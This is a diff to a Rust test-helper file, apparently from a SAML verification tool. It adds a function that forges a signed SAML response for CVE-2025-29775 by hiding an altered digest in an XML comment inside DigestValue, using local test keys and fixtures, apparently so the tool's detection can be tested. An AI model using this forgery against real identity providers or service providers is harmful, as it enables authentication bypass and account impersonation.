@@ -215,3 +215,49 @@ pub fn xmlsec1_available() -> bool {
     }
     ok
 }
+
+/// CVE-2025-29775's forgery of the fixture response: `what` (one signature) signed with the test IdP key, then every
+/// `from` replaced by `to` (content the signature covers), and the digest of each signed element as it
+/// now is put in a comment at the start of its DigestValue, before the digest that was signed. The
+/// SignedInfo canonicalises as signed (comments are dropped), so the signature value still verifies;
+/// a library that reads `firstChild.data` compares the comment's digest.
+pub fn digest_comment_forgery(what: samlint::verify::sign::What, from: &str, to: &str) -> String {
+    use samlint::verify::sign::{Alg, pem_body, sign};
+    let read = |rel: &str| std::fs::read_to_string(fixture(rel)).unwrap();
+    let template = read("saml/keycloak-atlassian-unsigned.xml")
+        .trim_end()
+        .to_string();
+    let sign_it = |xml: &str| {
+        sign(
+            xml,
+            what,
+            read("keys/idp-key.pem").as_bytes(),
+            &pem_body(&read("keys/idp-cert.pem")),
+            Alg::RsaSha256,
+        )
+        .unwrap()
+    };
+    let digests = |xml: &str| -> Vec<String> {
+        xml.split("<ds:DigestValue>")
+            .skip(1)
+            .map(|r| r.split('<').next().unwrap().to_string())
+            .collect()
+    };
+    // Both signed, the Response's digest covers the Assertion's altered signature: not this shape.
+    assert_ne!(what, samlint::verify::sign::What::Both);
+    assert!(template.contains(from), "the template lacks {from:?}");
+    let signed = sign_it(&template);
+    let altered = sign_it(&template.replace(from, to));
+    let (old, new) = (digests(&signed), digests(&altered));
+    assert!(!old.is_empty() && old.len() == new.len());
+    let mut forged = signed.replace(from, to);
+    for (o, n) in old.iter().zip(&new) {
+        assert_ne!(o, n, "the change must alter every signed digest");
+        forged = forged.replacen(
+            &format!("<ds:DigestValue>{o}<"),
+            &format!("<ds:DigestValue><!--{n}-->{o}<"),
+            1,
+        );
+    }
+    forged
+}
